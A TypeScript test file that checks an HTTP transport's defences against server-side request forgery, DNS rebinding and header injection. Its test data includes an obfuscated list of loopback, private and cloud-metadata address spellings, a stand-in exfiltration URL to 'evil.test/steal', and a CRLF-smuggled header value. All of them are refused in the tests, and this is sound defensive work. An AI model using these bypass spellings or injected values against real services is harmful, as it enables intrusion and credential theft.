import type { RequestListener } from 'node:http';
import { expect, test } from 'vitest';
import { serve } from './testing/servers.ts';
import { get, opened, table } from './testing/transports.ts';
import { createTransport, type SendOptions } from './transport.ts';

const ok: RequestListener = (_, response) => response.end('ok');

const privateSpellings = [
  'http://127.0.0.1',
  'http://127.1',
  'http://2130706433',
  'http://0x7f000001',
  'http://0x7f.0.0.1',
  'http://0177.0.0.1',
  'http://017700000001',
  'http://127.0.0.1.',
  'http://127。0。0。1',
  'http://①②⑦.⓪.⓪.①',
  'http://%31%32%37.0.0.1',
  'http://0.0.0.0',
  'http://0',
  'http://[::1]',
  'http://[0:0:0:0:0:0:0:1]',
  'http://[::]',
  'http://[::ffff:127.0.0.1]',
  'http://[::ffff:7f00:1]',
  'http://[::127.0.0.1]',
  'http://[64:ff9b::7f00:1]',
  'http://[2002:7f00:1::]',
  'http://localhost',
  'http://LOCALHOST.',
  'http://x.localhost',
  'http://169.254.169.254',
  'http://[fd00:ec2::254]',
  'http://10.0.0.1',
  'http://192.168.0.1',
  'http://100.100.100.200',
  'http://internal.test',
  'http://mapped.test',
] as const;

test.each(privateSpellings)(
  'attack 16, F-131: %s is refused, and nothing is connected to',
  async (spelling) => {
    await using server = await serve(ok);
    const names = { 'internal.test': ['127.0.0.1', '::1'], 'mapped.test': ['::ffff:127.0.0.1'] };
    await using transport = opened({ lookup: table(names) });
    const url = `${spelling}:${server.port}/latest/meta-data?key=s3cret`;
    const answer = await get(transport, url);
    expect(answer).toMatchObject({ ok: false, problem: { code: 'private_host', stage: 'request' } });
    expect(JSON.stringify(answer)).not.toMatch(/s3cret|meta-data/);
    expect(server.connections()).toBe(0);
  },
);

test.each([
  ['a host and port', (port: number) => `http://localhost:${port}`, (port: number) => `localhost:${port}`],
  ['a host', (port: number) => `http://localhost:${port}`, () => 'localhost'],
  ['an address', (port: number) => `http://127.0.0.1:${port}`, () => '127.0.0.1'],
  ['a range', (port: number) => `http://2130706433:${port}`, () => '127.0.0.0/8'],
  ['a range, by name', (port: number) => `http://internal.test:${port}`, () => '127.0.0.0/8'],
  ['a name', (port: number) => `http://internal.test:${port}`, () => 'internal.test'],
])('a private host is reached when the setting names %s', async (_, urlOf, ruleOf) => {
  await using server = await serve(ok);
  const lookup = table({ 'internal.test': ['127.0.0.1'] });
  await using transport = opened({ allowPrivate: [ruleOf(server.port)], lookup });
  expect(await get(transport, urlOf(server.port))).toMatchObject({ ok: true, value: { status: 200 } });
});

test('a rule with a port opens no other port, with a socket to the first one open', async () => {
  await using allowed = await serve(ok);
  await using other = await serve(ok);
  await using transport = opened({
    allowPrivate: [`localhost:${allowed.port}`, `127.0.0.1:${allowed.port}`],
  });
  expect((await get(transport, allowed.origin)).ok).toBe(true);
  expect((await get(transport, `http://localhost:${allowed.port}`)).ok).toBe(true);
  const refused = { problem: { code: 'private_host' } };
  expect(await get(transport, other.origin)).toMatchObject(refused);
  expect(await get(transport, `http://localhost:${other.port}`)).toMatchObject(refused);
  expect(other.connections()).toBe(0);
});

test('a private host that is allowed later is reached from then on, and no other', async () => {
  await using server = await serve(ok);
  await using other = await serve(ok);
  await using transport = opened();
  const refused = { problem: { code: 'private_host' } };
  expect(await get(transport, server.origin)).toMatchObject(refused);
  transport.allowPrivate(new URL(server.origin).host);
  expect(await get(transport, server.origin)).toMatchObject({ ok: true });
  expect(await get(transport, other.origin)).toMatchObject(refused);
});

test('attack 16: a name that resolves elsewhere the second time gains nothing', async () => {
  let answers = 0;
  let requests = 0;
  await using server = await serve((_, response) => {
    requests += 1;
    response.setHeader('Connection', 'close').end();
  });
  // The open address stands for a public one, which a test cannot have; the other one is as private.
  const lookup = async () => [answers++ === 0 ? '127.0.0.1' : '127.0.0.2'];
  await using transport = opened({ allowPrivate: ['127.0.0.1/32'], lookup });
  const url = `http://rebind.test:${server.port}/`;
  expect((await get(transport, url)).ok).toBe(true);
  expect(answers).toBe(1);
  expect(await get(transport, url)).toMatchObject({ problem: { code: 'private_host' } });
  expect({ answers, requests }).toEqual({ answers: 2, requests: 1 });
});

test('attack 16: of several addresses only the open one is connected to', async () => {
  await using server = await serve(ok);
  const lookup = table({ 'mixed.test': ['::1', '127.0.0.2', '127.0.0.1', '10.0.0.1'] });
  await using transport = opened({ allowPrivate: ['127.0.0.1/32'], lookup });
  expect(await get(transport, `http://mixed.test:${server.port}/`)).toMatchObject({ ok: true });
});

test('F-138 a host that the definition does not name is not even looked up', async () => {
  const asked: string[] = [];
  const lookup = async (name: string) => {
    asked.push(name);
    return [];
  };
  await using transport = opened({ lookup });
  const answer = await get(transport, 'https://evil.test/steal?key=s3cret', {
    allow: ['acme.com', '*.acme.com'],
  });
  const params = { host: 'evil.test' };
  expect(answer).toEqual({ ok: false, problem: { code: 'host_not_allowed', stage: 'request', params } });
  expect(asked).toEqual([]);
});

test('a name that does not exist is a host that cannot be reached', async () => {
  await using transport = opened({ lookup: table({}) });
  expect(await get(transport, 'https://nowhere.test/')).toMatchObject({
    problem: {
      code: 'connection_refused',
      params: { host: 'nowhere.test', reason: 'the name does not exist' },
    },
  });
});

test('an exchange is told of as it was sent, with its time, or with its problem', async () => {
  await using server = await serve(ok);
  let at = 1_000;
  const clock = { now: () => 1_700_000_000_000, elapsedMs: () => (at += 7) };
  await using transport = opened({ allowPrivate: ['127.0.0.1'], clock });
  const told: unknown[] = [];
  const onExchange: SendOptions['onExchange'] = (exchange) => told.push(exchange);
  const headers = { Connection: 'close', 'X-A': 'b' };
  await get(transport, `${server.origin}/#part`, { method: 'get', headers, onExchange });
  await get(transport, server.origin, { allow: [], onExchange });
  const times = { startedAt: 1_700_000_000_000, durationMs: 7 };
  const sent = { method: 'GET', url: `${server.origin}/`, headers: { 'X-A': 'b' } };
  expect(told).toMatchObject([
    { request: sent, response: { status: 200 }, ...times },
    { request: { url: `${server.origin}/` }, problem: { code: 'host_not_allowed' }, ...times },
  ]);
  expect(told[0]).toHaveProperty('request.headers', { 'X-A': 'b' });
});

test('attack 20: a request that cannot be sent is a problem, and is told of', async () => {
  await using transport = opened();
  const told: unknown[] = [];
  const onExchange: SendOptions['onExchange'] = (exchange) => told.push(exchange.problem?.code);
  const headers = { 'X-Key': 'a\r\nHost: evil.test' };
  const answer = await get(transport, 'https://acme.com/', { headers, onExchange });
  expect(answer).toMatchObject({ problem: { code: 'field_invalid' } });
  expect(told).toEqual(['field_invalid']);
});

test('closing waits for what is under way, and then sends nothing more', async () => {
  const arrived = Promise.withResolvers<void>();
  const answerNow = Promise.withResolvers<void>();
  await using server = await serve(async (_, response) => {
    arrived.resolve();
    await answerNow.promise;
    response.end('late');
  });
  const transport = createTransport({ allowPrivate: ['127.0.0.1'] });
  const answer = get(transport, server.origin);
  await arrived.promise;
  const closed = transport.close();
  answerNow.resolve();
  expect(await answer).toMatchObject({ ok: true, value: { status: 200 } });
  await closed;
  await server.idle();
  expect(await get(transport, server.origin)).toMatchObject({ problem: { code: 'connection_refused' } });
});

test('a setting that cannot be read is a bug of the caller', () => {
  expect(() => createTransport({ allowPrivate: ['http://localhost'] })).toThrow(RangeError);
});
